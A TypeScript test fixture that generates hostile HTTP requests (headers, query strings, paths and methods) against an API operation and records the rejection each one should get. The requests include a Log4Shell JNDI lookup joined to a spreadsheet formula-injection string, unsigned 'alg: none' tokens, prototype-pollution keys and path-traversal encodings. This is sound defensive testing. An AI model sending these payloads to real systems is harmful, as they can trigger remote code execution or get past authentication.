import type { ApiOperation } from '../../../../lib/api/document';
import type { Expected } from './bodies/calls';
import { canaryOf } from './bodies/canary';

/** A call in which something else than the body is hostile. */
export interface HostileRequest {
  readonly number: number;
  readonly operation: ApiOperation;
  readonly kind: string;
  readonly method: string;
  readonly path: string;
  readonly headers: Readonly<Record<string, string>>;
  /** Bad in itself, so that nothing is done where the rest is ignored. */
  readonly body: Buffer;
  /** Past the gateway: to the function as if a gateway had let it through. */
  readonly past: boolean;
  readonly expected: Expected;
}

type Draft = Pick<HostileRequest, 'kind'> & Partial<HostileRequest>;

const IGNORED = { status: 400, code: 'invalid-body' };
const NO_TOKEN = { status: 401, code: 'token-invalid' };
const NO_SUCH = { status: 403, code: 'unknown-or-unsigned' };
const NO_OPERATION = { status: 404, code: 'no-such-operation' };

/**
 * Hostile headers, paths, methods and queries around one operation.
 *
 * @param from number of the first
 */
export function hostileRequests(operation: ApiOperation, from: number): readonly HostileRequest[] {
  const { path, method, root } = operation;
  const ofHeaders = (canary: string): readonly Draft[] =>
    headersOf(root, canary).map(([kind, headers, expected]) => ({ kind, headers, expected }));
  // Of services the gateway checks first what they signed.
  const kinds = (canary: string): readonly Draft[] =>
    root === 'services'
      ? ofHeaders(canary)
      : [
          ...ofHeaders(canary),
          ...queriesOf(canary).map((query) => ({
            kind: `the query ${shown(query, canary)}`,
            path: `${path}?${query}`,
            expected: IGNORED,
          })),
          ...pathsOf(path, canary).map((other) => ({
            kind: `the path ${shown(other, canary)}`,
            path: other,
            expected: NO_SUCH,
          })),
          ...['GET', 'PUT', 'PATCH', 'DELETE', 'OPTIONS'].map((other) => ({
            kind: `the method ${other}`,
            method: other,
            expected: NO_SUCH,
          })),
          ...[`/v1/${canary}`, 'constructor', '__proto__', `${path}/`, `${path}\u0000`].map(
            (other) => ({
              kind: `the resource ${shown(other, canary)}`,
              path: other,
              past: true,
              expected: NO_OPERATION,
            }),
          ),
          ...[canary, 'POST\r\n', ''].map((other) => ({
            kind: `a method ${shown(other, canary)} that there is not`,
            method: other,
            past: true,
            expected: NO_OPERATION,
          })),
        ];
  return kinds(canaryOf(from)).map((_, index) => {
    const canary = canaryOf(from + index);
    const draft = kinds(canary)[index];
    return {
      operation,
      method,
      path,
      past: false,
      expected: IGNORED,
      kind: '',
      ...draft,
      headers: { 'content-type': 'application/json', ...draft?.headers },
      body: Buffer.from(JSON.stringify([canary])),
      number: from + index,
    };
  });
}

function shown(text: string, canary: string): string {
  return JSON.stringify(text.replaceAll(canary, '…').slice(0, 60));
}

type HeaderDraft = readonly [
  kind: string,
  headers: Readonly<Record<string, string>>,
  expected: Expected,
];

function headersOf(root: ApiOperation['root'], canary: string): readonly HeaderDraft[] {
  const onBehalf = (value: string): HeaderDraft => [
    `on behalf of ${shown(value, canary)}`,
    { 'x-hlz-on-behalf-of': value },
    root === 'services' ? NO_TOKEN : IGNORED,
  ];
  const ignored = (name: string, value: string): HeaderDraft => [
    `${name} ${shown(value, canary)}`,
    { [name]: value },
    IGNORED,
  ];
  const part = Buffer.from(JSON.stringify({ alg: 'none', sub: canary })).toString('base64url');
  return [
    ...[
      canary,
      `Bearer ${canary}`,
      `${part}.${part}.`,
      `${part}.${part}.${canary}`,
      '..',
      Array(200).fill(canary).join(' '),
    ].map(onBehalf),
    ...(root === 'services'
      ? []
      : [
          `Bearer ${part}.${part}.${canary}`,
          `Basic ${canary}`,
          canary,
          `Bearer ${canary.repeat(300)}`,
        ].map((value): HeaderDraft => [
          `authorization ${shown(value, canary)}`,
          { authorization: value },
          NO_TOKEN,
        ])),
    ignored('x-http-method-override', 'DELETE'),
    ignored('x-original-url', `/v1/session/${canary}`),
    ignored('x-forwarded-for', `${canary}, 127.0.0.1`),
    ignored('x-forwarded-host', `${canary}.example`),
    ignored('user-agent', `\${jndi:ldap://${canary}.example/a} =cmd|' /C calc'!A0`),
    ignored('cookie', `session=${canary}; __Host-a=${canary}`),
    ignored('origin', `https://${canary}.example`),
    ignored('accept', `application/xml, ${canary}/*`),
    ignored('content-encoding', canary),
    ignored('content-language', canary),
    ignored('x-amzn-trace-id', `Root=${canary}`),
    ignored('x-amz-request-id', canary),
    ignored('if-none-match', `"${canary}"`),
    ignored('range', 'bytes=0-0,1-1,2-2'),
    ...(root === 'services' ? [] : [ignored('__proto__', canary)]),
    ignored(`x-${canary}`, canary.repeat(700)),
  ];
}

function queriesOf(canary: string): readonly string[] {
  return [
    `patientId=${canary}`,
    `a=1&a=2&__proto__[isAdmin]=${canary}`,
    canary.repeat(300),
    `%00%ff=${canary}`,
    `callback=${canary}`,
  ];
}

/** Beside an operation, and one for each way of naming another. */
function pathsOf(path: string, canary: string): readonly string[] {
  return [
    `/v1/${canary}`,
    `${path}/${canary}`,
    `${path}/../${canary}`,
    `${path}%252f..%252f..`,
    `${path};a=${canary}`,
    `${path}%00`,
    path.toUpperCase(),
    `/%2e%2e${path}`,
    `${path}.json`,
    `/../../${canary}`,
    `/${canary}\u00e9`.replace('\u00e9', '%c3%28'),
  ];
}
